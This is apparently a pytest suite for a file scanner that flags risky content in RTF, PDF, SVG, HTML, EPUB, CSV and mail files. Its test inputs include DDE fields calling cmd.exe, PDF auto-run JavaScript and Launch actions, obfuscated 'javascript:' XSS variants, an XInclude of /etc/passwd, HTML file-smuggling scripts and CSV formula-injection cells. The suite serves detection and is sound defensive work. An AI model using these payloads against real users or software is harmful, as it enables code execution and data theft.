"""Flags of Rich Text, PDF, markup, tables and mail."""

import base64
import io
import zlib

import pikepdf

from sluice_inspect import inspect_file
from sluice_inspect.formats import epub
from tests.inspection.facts import facts_of, flags_of
from tests.inspection.formats.office_packages import package_of, parts_of
from tests.inspection.formats.pdf_samples import pdf, resaved, stream, text
from tests.rows import each_row

PROGRAM = b"\x7fELF" + bytes(60)
NONE: set[str] = set()


def rtf(inner: str) -> bytes:
    return ("{\\rtf1\\ansi One line." + inner + "\\par}").encode("latin-1")


@each_row(
    ("inner", "flags"),
    [
        (r"{\*\template http://a.example/t.dotm}", {"template.remote"}),
        (r"{\*\template \\\\server\\t.dotm}", {"template.remote"}),
        (r"{\*\template {\b h}ttp://a.example}", {"template.remote"}),
        (r"{\*\template \'68ttp://a.example}", {"template.remote"}),
        (r"{\*\template \u104?ttp://a.example}", {"template.remote"}),
        (r"{\*\template C:\\Users\\a\\Normal.dotm}", NONE),
        (r"{\object\objemb{\*\objdata " + "0105000002000000" + "08000000" + "5061636b61676500" + "00000000" + "}}",
         {"object.ole", "package"}),
        (r"{\object\objocx{\*\objdata 0105}}", {"object.activex", "object.ole"}),
        (r"{\object\objautlink{\*\objclass X}}", {"link.external"}),
    ],
)  # fmt: skip
def test_template_or_object_of_rich_text(inner: str, flags: set[str]) -> None:
    assert flags_of(rtf(inner), "a.rtf") == flags


@each_row(
    ("field", "flags"),
    [
        (r"DDEAUTO c:\\windows\\cmd.exe x", {"dde"}),
        (r"{\b DD}{\i EAUTO} cmd", {"dde"}),
        (r" \u68?DE cmd", {"dde"}),
        (r"D\'44E cmd", {"dde"}),
        ("DD\r\nE cmd", {"dde"}),
        ('HYPERLINK "http://a.example/"', NONE),
        ('INCLUDEPICTURE "http://a.example/a.png"', {"link.external"}),
    ],
)
def test_field_of_rich_text(field: str, flags: set[str]) -> None:
    assert flags_of(rtf(r"{\field{\*\fldinst " + field + r"}{\fldrslt x}}"), "a.rtf") == flags


# PDF


def one_page(catalog: str = "", objects: dict[int, bytes | str] | None = None) -> bytes:
    return pdf(text("word"), catalog=catalog, objects=objects)


def test_plain_pdf_has_pages_and_no_flags() -> None:
    facts = facts_of(pdf(text("a"), text("b")), "a.pdf")
    assert facts == {"pages": 2, "attachments": 0, "encrypted": False, "flags_complete": True}
    assert flags_of(one_page(), "a.pdf") == set()


def test_action_in_a_packed_object_has_a_flag() -> None:
    action = one_page("/OpenAction<</S/JavaScript/JS(x)>>")
    packed = resaved(action, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in packed
    assert flags_of(packed, "a.pdf") == {"script.pdf"}


@each_row(
    ("name", "content", "kind"),
    [
        ("run.exe", stream(b"content", "/Type/EmbeddedFile"), "program"),
        ("a.js", stream(b"content", "/Type/EmbeddedFile"), "script"),
        ("a.txt", stream(b"content", "/Type/EmbeddedFile"), "document"),
        ("a.zip", stream(b"content", "/Type/EmbeddedFile"), "archive"),
        ("a.pdf", stream(PROGRAM, "/Type/EmbeddedFile", packed=True), "program"),
    ],
)
def test_attachments_of_a_pdf_have_kinds(name: str, content: bytes, kind: str) -> None:
    attached = f"<</Type/Filespec/F({name})/EF<</F 101 0 R>>>>"
    data = one_page("/Names<</EmbeddedFiles<</Names[(a) 100 0 R]>>>>", {100: attached, 101: content})
    assert (flags_of(data, "a.pdf"), facts_of(data, "a.pdf")["attachments"]) == ({f"attachment.{kind}"}, 1)


XFA = b"<xdp><template><event><x:script xmlns:x='a'>x</x:script></event></template></xdp>"
SIMPLE_XFA = b"<xdp><template><event><script>x</script></event></template></xdp>"
WIDE_XFA = XFA.decode().encode("utf-16")
PLAIN_XFA = b"<xdp><template>script <description>scripted</description></template></xdp>"


@each_row(
    ("packets", "flags"),
    [
        ([stream(XFA[:25]), stream(XFA[25:28], packed=True), stream(XFA[28:])], {"script.pdf"}),
        ([stream(WIDE_XFA)], {"script.pdf"}),
        ([stream(XFA.decode().encode("utf-16-be"))], {"script.pdf"}),
        ([stream(WIDE_XFA[:61]), stream(WIDE_XFA[61:])], {"script.pdf"}),
        ([stream(part.decode().encode("utf-16")) for part in (XFA[:30], XFA[30:])], {"script.pdf"}),
        ([stream(XFA.hex().encode() + b">", "/Filter/ASCIIHexDecode")], {"script.pdf"}),
        ([stream(base64.a85encode(XFA, adobe=True)[2:], "/Filter/ASCII85Decode")], {"script.pdf"}),
        ([stream(base64.a85encode(zlib.compress(XFA * 40)) + b"~>", "/Filter[/A85/Fl]")], {"script.pdf"}),
        ([stream(zlib.compress(zlib.compress(XFA)).hex().encode(), "/Filter[/AHx/Fl/Fl]")], {"script.pdf"}),
        ([stream(PLAIN_XFA[:20]), stream(PLAIN_XFA[20:], packed=True)], NONE),
    ],
)
def test_script_of_a_form_is_found_however_its_packets_are_written(packets: list[bytes], flags: set[str]) -> None:
    listed = " ".join(f"(p{number}) {100 + number} 0 R" for number in range(len(packets)))
    form = one_page(f"/AcroForm<</Fields[]/XFA[{listed}]>>", {100 + at: each for at, each in enumerate(packets)})
    assert flags_of(form, "a.pdf") == flags


@each_row(
    ("action", "flags"),
    [
        ("/S/GoToR/F(//server/a.pdf)/D[0/Fit]", {"launch.pdf", "link.external"}),
        ("/S/GoToR/F<</F(x)/UF(\\\\\\\\server\\\\a.pdf)>>/D[0/Fit]", {"launch.pdf", "link.external"}),
        ("/S/GoToE/F 101 0 R/D[0/Fit]", {"launch.pdf", "link.external"}),
        ("/S/GoToR/F(other.pdf)/D[0/Fit]", set()),
        ("/S/GoTo/D[10 0 R/Fit]", set()),
        ("/S/SubmitForm/F<</FS/URL/F(https://a.example/)>>", {"link.external"}),
        ("/S/ImportData/F(//server/a.fdf)", {"link.external"}),
        ("/S/URI/URI(https://a.example/)", {"link.external"}),
        ("/S/URI/URI(file:///C:/a.exe)", {"launch.pdf"}),
        ("/S/URI/URI( java\nscript:x)", {"script.pdf"}),
        ("/S/URI/URI<feff006a006100760061007300630072006900700074003a0078>", {"script.pdf"}),
        ("/S/GoTo/D[10 0 R/Fit]/Next[102 0 R]", {"link.external"}),
    ],
)
@each_row(
    "trigger", ["/OpenAction<<{}>>", "/OpenAction 100 0 R", "/AA<</WC<<{}>>>>", "/AA<</WC 100 0 R>>", "/AA 103 0 R"]
)
def test_action_that_starts_by_itself_has_the_flags_of_what_it_opens(
    action: str, flags: set[str], trigger: str
) -> None:
    objects: dict[int, bytes | str] = {
        100: f"<<{action}>>",
        101: "<</Type/Filespec/UF(http://a.example/a.pdf)>>",
        102: "<</S/URI/URI(http://a.example/)/Next 100 0 R>>",
        103: "<</O 100 0 R>>",
    }
    if "103" not in trigger and "100 0 R" not in trigger and "102" not in action:
        del objects[100]
    assert flags_of(one_page(trigger.format(action), objects), "a.pdf") == flags


@each_row(
    ("action", "flags"),
    [
        ("/S/URI/URI(https://a.example/)", set()),
        ("/S/SubmitForm/F<</FS/URL/F(https://a.example/)>>", set()),
        ("/S/URI/URI(javascript:x\\(\\))", {"script.pdf"}),
    ],
)
@each_row("entry", ["/A<<{}>>", "/AA<</U<<{}>>>>"])
def test_action_that_has_to_be_clicked_loads_nothing(action: str, flags: set[str], entry: str) -> None:
    note = "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]" + entry.format(action) + ">>"
    assert flags_of(one_page("/X 100 0 R", {100: note}), "a.pdf") == flags


@each_row("levels", [20, 60, 450])
@each_row(("opens", "closes"), [("<</S/GoTo/D[0]/Next", ">>"), ("[", "]"), ("<</A[", "]>>")])
def test_nested_action_of_a_pdf_has_a_flag(levels: int, opens: str, closes: str) -> None:
    levels = levels // len(closes.replace(">>", "]"))
    nested = opens * levels + "<</S/JavaScript/JS(x)>>" + closes * levels
    report = inspect_file(io.BytesIO(one_page(f"/X {nested}")), filename="a.pdf")
    assert (report.flags, report.facts["flags_complete"]) == (("script.pdf",), True)


def test_pdf_that_is_nested_more_deeply_than_its_reader_goes_has_all_flags_of_actions() -> None:
    nested = "<</Next" * 900 + "<</S/JavaScript/JS(x)>>" + ">>" * 900
    report = inspect_file(io.BytesIO(one_page("/X 100 0 R", {100: nested})), filename="a.pdf")
    assert (report.flags, report.facts["flags_complete"]) == (("launch.pdf", "script.pdf"), False)


MODEL = stream(b"u3d", "/Type/3D/Subtype/U3D/OnInstantiate 101 0 R")
MEDIUM = "<</Type/RichMediaActivation/Condition/PV/Scripts[<</Type/Filespec/F(a)/EF<</F 101 0 R>>>>]>>"


@each_row(
    ("catalog", "objects", "flags"),
    [
        ("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", {}, {"script.pdf"}),
        ("/OpenAction<</S/#4aavaScript/#4aS(x)>>", {}, {"script.pdf"}),
        ("/AA<</WC<</S/JavaScript/JS 100 0 R>>>>", {100: stream(b"app.alert(1)")}, {"script.pdf"}),
        ("/OpenAction<</S/Launch/F(cmd.exe)>>", {}, {"launch.pdf"}),
        ("/OpenAction<</S/#4caunch/F(cmd.exe)>>", {}, {"launch.pdf"}),
        ("/Info<</Title(/JS /Launch /EF)>>", {}, NONE),
        ("/AcroForm<</Fields[]/XFA 100 0 R>>", {100: stream(SIMPLE_XFA, packed=True)}, {"script.pdf"}),
        ("/X 100 0 R", {100: MODEL, 101: stream(b"x")}, {"script.pdf"}),
        ("/X 100 0 R", {100: MODEL, 101: stream(b"x", packed=True)}, {"script.pdf"}),
        ("/X 100 0 R", {100: MEDIUM, 101: stream(b"x", "/Type/EmbeddedFile")}, {"script.pdf", "attachment.other"}),
        ("/X 100 0 R", {100: stream(b"", "/F<</FS/URL/F(http://a.example/a)>>")}, {"link.external"}),
    ],
)
def test_action_script_or_link_of_a_pdf_has_a_flag(
    catalog: str, objects: dict[int, bytes | str], flags: set[str]
) -> None:
    assert flags_of(one_page(catalog, objects), "a.pdf") == flags


@each_row(("user", "expected"), [("secret", True), ("", False)])
def test_password_of_a_pdf(user: str, *, expected: bool) -> None:
    locked = resaved(one_page(), encryption=pikepdf.Encryption(owner="o", user=user, R=6))
    assert facts_of(locked, "a.pdf")["encrypted"] is expected


def test_damaged_pdf_keeps_its_facts() -> None:
    whole = one_page("/OpenAction<</S/JavaScript/JS(x)>>")
    damaged = whole.replace(b"xref", b"xxef").replace(b"startxxef", b"startxref")
    assert flags_of(damaged, "a.pdf") == {"script.pdf"}


# Markup


def svg(inner: str, attributes: str = "") -> bytes:
    path = '<path d="M0 0L9 9" stroke="black"/>'
    return f'<svg xmlns="http://www.w3.org/2000/svg" {attributes}>{path}{inner}</svg>'.encode()


def test_size_of_a_drawing_if_it_states_one() -> None:
    facts = facts_of(svg("", 'width="90px" height="45"'), "a.svg")
    assert (facts["width"], facts["height"], facts["pixels"]) == (90, 45, 4050)
    assert "width" not in facts_of(svg("", 'width="100%" height="45"'), "a.svg")


XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
STYLE_SHEET = b'<?xml-stylesheet type="text/css" href="http://a.example/a.css"?>'


@each_row(
    ("inner", "flags"),
    [
        ("<script>x</script>", {"script.svg"}),
        ('<s:script xmlns:s="http://www.w3.org/2000/svg">x</s:script>', {"script.svg"}),
        ('<path d="M0 0" onfocusout="x()"/>', {"script.svg"}),
        ('<a href=" java&#10;script:x()"><path d="M0 0"/></a>', {"script.svg"}),
        ('<set attributeName="href" to="javascript:x()"/>', {"script.svg"}),
        ('<a href="https://a.example/"><text>script onload= javascript:</text></a>', NONE),
        ('<image href="http://a.example/a.png"/>', {"link.external"}),
        (f'<image {XLINK} xlink:href="\\\\server\\a.png"/>', {"link.external"}),
        ('<use href="//a.example/a.svg#a"/>', {"link.external"}),
        ('<rect fill="url(http://a.example/a.svg#a)"/>', {"link.external"}),
        ('<rect style="filter: url(&apos;https://a.example/a.svg#a&apos;)"/>', {"link.external"}),
        ('<style>@import "https://a.example/a.css";</style>', {"link.external"}),
        ("<style><![CDATA[a{background:url(//a.example/a.png)}]]></style>", {"link.external"}),
        ('<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="http://a.example/a.png"/>', {"link.external"}),
        (f'<a {XLINK} xlink:href="http://a.example/"><path d="M0 0"/></a><rect fill="url(#a)"/><image href="a.png"/>', NONE),
    ],
)  # fmt: skip
def test_script_or_external_link_of_a_drawing(inner: str, flags: set[str]) -> None:
    assert flags_of(svg(inner), "a.svg") == flags


def test_script_of_a_drawing_in_utf16() -> None:
    assert flags_of(svg("<script>x</script>").decode().encode("utf-16"), "a.svg") == {"script.svg"}


@each_row("year", ["2001", "2003"])
def test_included_document(year: str) -> None:
    text_ = f'<a><x:include xmlns:x="http://www.w3.org/{year}/XInclude" href="/etc/passwd"/></a>'
    for data in (text_.encode(), text_.encode("utf-16"), text_.replace("XInclude", "X&#73;nclude").encode()):
        assert flags_of(data, "a.xml") == {"xinclude"}


@each_row(
    ("name", "data", "flags"),
    [
        ("a.xml", b'<?xml version="1.0" encoding="UTF-8"?><a on="1">include script</a>', NONE),
        ("a.xml", STYLE_SHEET + b"<a/>", {"link.external"}),
        ("a.xml", STYLE_SHEET.replace(b"http://a.example/", b"") + b"<a/>", NONE),
        ("a.svg", STYLE_SHEET + svg(""), {"link.external"}),
    ],
)
def test_style_sheet_of_a_drawing_or_document_elsewhere_is_an_external_link(
    name: str, data: bytes, flags: set[str]
) -> None:
    assert flags_of(data, name) == flags


@each_row(
    "inner",
    [
        "<script>x</script>",
        '<p onclick = "x()">a</p>',
        "<img src=x/onerror=x()>",
        '<a href=" javascript:x()">a</a>',
        "<a href='java&#x09;script:x()'>a</a>",
        "<a href=&#0000106;avascript&colon;x()>a</a>",
        "<a href='&#14; java&NewLine;script:x()'>a</a>",
        "<a\nhref='java\tscript:x()'>a</a>",
        "<form action='JAVA\r\nSCRIPT:x()'></form>",
        "<iframe srcdoc='&lt;script&gt;x&lt;/script&gt;'></iframe>",
        "<iframe srcdoc=&lt;img/onerror&#61;x()&gt;></iframe>",
        "<iframe srcdoc='<iframe srcdoc=&quot;&amp;lt;script&amp;gt;&quot;>'></iframe>",
        "<iframe src='data:text/html,a'></iframe>",
        "<iframe src='da&Tab;ta:text&sol;html;base64,PA=='></iframe>",
        "<object data=data:image/svg+xml,a></object>",
        "<embed src='data:application/xhtml+xml,a'>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>x</x:script>",
    ],
)
def test_script_of_a_web_page_is_found_however_it_is_written(inner: str) -> None:
    assert flags_of(f"<html><body>a{inner}</body></html>".encode(), "a.html") == {"script.html"}


@each_row(
    "inner",
    [
        "<p>The salmon = fish; conclusion = 1</p><a href='https://a.example/'>a</a>",
        "<pre>&lt;script&gt; &lt;a href=&quot;javascript:x&quot;&gt; a&#61;&#34;javascript:x</pre>",
        "<img src='data:image/svg+xml,a'>",
        "<iframe srcdoc='&lt;p&gt;a&lt;/p&gt; &amp;lt;script&amp;gt;'></iframe>",
        "<a href='/java%09script'>a</a> java&#9;script:",
        "<a href='https://a.example/'>a</a>",
        "<img src='a.png' alt='http://a.example'>",
        "<link rel='canonical' href='https://a.example/'>",
        "<form action='https://a.example/'></form>",
        "<p xmlns='http://www.w3.org/1999/xhtml'>url (http://a.example)</p>",
        "<meta name='a' content='https://a.example/'>",
        "<img data-src='http://a.example/a.png' src='data:image/png;base64,AA=='>",
    ],
)
def test_text_about_scripts_and_links_to_click_have_no_flag(inner: str) -> None:
    assert flags_of(f"<html><body>a{inner}</body></html>".encode(), "a.html") == set()


def book_with(page: bytes, name: str = "page.xhtml") -> bytes:
    return package_of(parts_of(epub.FORMAT.sample()) | {name: page})


@each_row("name", ["page.xhtml", "other.xml", "picture"])
@each_row(
    "page",
    [
        '<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>x</x:script></x:html>',
        '<html xmlns="http://www.w3.org/1999/xhtml"><a href="java&#x0a;script:x()">a</a></html>',
        '<!DOCTYPE html [<!ENTITY a "java"><!ENTITY b "&a;script&#58;">]><html><a href="&b;x()">a</a></html>',
        "<!DOCTYPE html [<!ENTITY a '&#60;script>x&#60;/script>'>]><html>&a;</html>",
        '<!DOCTYPE html [<!ENTITY a "<p on"><!ENTITY b "click=\'x()\'/>">]><html>&a;&b;</html>',
    ],
)
def test_script_in_a_page_of_a_book_is_found_however_it_is_written(page: str, name: str) -> None:
    declared = '<?xml version="1.0" encoding="utf-16"?>' + page
    for data in (page.encode(), page.encode("utf-16"), declared.encode("utf-16-be")):
        assert flags_of(book_with(data, name), "a.epub") == {"script.html"}


def test_entities_of_an_honest_book_are_no_script() -> None:
    page = '<!DOCTYPE html [<!ENTITY nbsp "&#160;"><!ENTITY title "On = Off">]><html><p>&nbsp;&title;</p></html>'
    report = inspect_file(io.BytesIO(book_with(page.encode())), filename="a.epub")
    assert (report.flags, report.facts["flags_complete"]) == ((), True)


def test_entities_of_a_book_that_multiply_leave_the_flags_incomplete() -> None:
    entities = "".join(f'<!ENTITY a{at} "{f"&a{at + 1};" * 30}">' for at in range(9)) + '<!ENTITY a9 "x">'
    page = f"<!DOCTYPE html [{entities}]><html>&a0;</html>"
    assert facts_of(book_with(page.encode()), "a.epub")["flags_complete"] is False


@each_row(
    "inner",
    [
        "<img src='http://a.example/a.png'>",
        "<img src=//a.example/a.png>",
        "<img src='\\\\server\\a.png'>",
        "<img src='ht&Tab;tps://a.example/a'>",
        "<img\nsrc='ht\ntps://a.example/a'>",
        "<img srcset='a.png 1x, https://a.example/a.png 2x'>",
        "<video poster='https://a.example/a'></video>",
        "<link href='https://a.example/a.css' rel='stylesheet'>",
        "<style>@import 'https://a.example/a.css';</style>",
        "<p style='background: url( &quot;http://a.example/a.png&quot; )'>a</p>",
        "<meta http-equiv='Refresh' content='0; URL=https://a.example/'>",
        "<base href='http://a.example/'><img src='a.png'>",
        "<svg><image xlink:href='http://a.example/a.png'/></svg>",
    ],
)
def test_page_that_loads_something_has_an_external_link(inner: str) -> None:
    page = f"<html><head></head><body>a{inner}</body></html>".encode()
    assert flags_of(page, "a.xhtml") == {"link.external"}
    assert flags_of(book_with(page), "a.epub") == {"link.external"}


def test_script_in_a_book() -> None:
    book = epub.FORMAT.sample()
    assert (flags_of(book, "a.epub"), facts_of(book, "a.epub")["flags_complete"]) == (set(), True)
    name, page = next((name, page) for name, page in parts_of(book).items() if name.endswith(".xhtml"))
    assert flags_of(book_with(page.replace(b"</body>", b"<script>x</script></body>"), name), "a.epub") == {
        "script.html"
    }


@each_row(
    "script",
    [
        "var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.download='x.iso';a.click()",
        "navigator.msSaveOrOpenBlob(new Blob([x]),'a.zip')",
        "var u=new Uint8Array(9);f(u);link.setAttribute('download','a.exe')",
    ],
)
def test_smuggled_file(script: str) -> None:
    page = f"<html><body><script>{script}</script></body></html>"
    assert flags_of(page.encode(), "a.html") == {"script.html", "smuggling.html"}
    assert "smuggling.html" in flags_of(page.encode("utf-16"), "a.html")


def test_one_half_of_smuggling_is_none() -> None:
    page = b"<html><body><script>var u = new Uint8Array(9)</script></body></html>"
    assert flags_of(page, "a.html") == {"script.html"}


# Tables


@each_row(
    "cell",
    ['=HYPERLINK("http://a.example?x="&A1,"a")', "=SUM(A1:A9)", "+SUM(1)", "-2+CALL(1)", "@SUM(A1)", '"=EXEC(1)"',
     "\t=EXEC(1)", "\uff1dEXEC(1)", "=1+WEBSERVICE(A1)"],
)  # fmt: skip
def test_formula_of_a_table(cell: str) -> None:
    assert flags_of(f"id;name\n1;{cell}\n".encode(), "a.csv") == {"formula.csv"}
    assert flags_of(f"id;name\r\n{cell};1\r\n".encode("utf-16"), "a.csv") == {"formula.csv"}


@each_row("cell", ["=cmd|' /C calc'!A0", "+cmd|'/c calc'!A0", "@x|'y'!z", "-2+3+cmd|' /C calc'!D2"])
def test_dde_formula_of_a_table(cell: str) -> None:
    assert flags_of(f"id,name\n1,{cell}\n".encode(), "a.csv") == {"formula.csv", "dde"}


@each_row(
    "cell",
    ["-5", "+49 (0)30 12345", "@name", "=", "- see the notes (below)", "a=f(x)", "-", "a@b.example (work)", "+1",
     "=A1+B2", "1|2!3"],
)  # fmt: skip
def test_honest_cell_is_no_formula(cell: str) -> None:
    assert flags_of(f"id,name\n1,{cell}\n".encode(), "a.csv") == set()


# Mail


def test_attachments_of_a_mail_have_kinds() -> None:
    mail = (
        "From: a@a.example\r\nSubject: A\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        "--b\r\nContent-Type: text/plain\r\n\r\nText.\r\n"
        '--b\r\nContent-Type: application/x; name="a.js"\r\nContent-Disposition: attachment\r\n\r\nx\r\n'
        "--b\r\nContent-Type: application/x\r\nContent-Disposition: attachment; filename=photo.jpg\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{base64.b64encode(PROGRAM).decode()}\r\n--b--\r\n"
    ).encode()
    assert flags_of(mail, "a.eml") == {"attachment.script", "attachment.program"}
    assert facts_of(mail, "a.eml")["attachments"] == 2


def test_mail_without_attachments() -> None:
    facts = facts_of(b"From: a@a.example\r\nSubject: A\r\n\r\nText.\r\n", "a.eml")
    assert (facts["attachments"], facts["flags_complete"]) == (0, True)
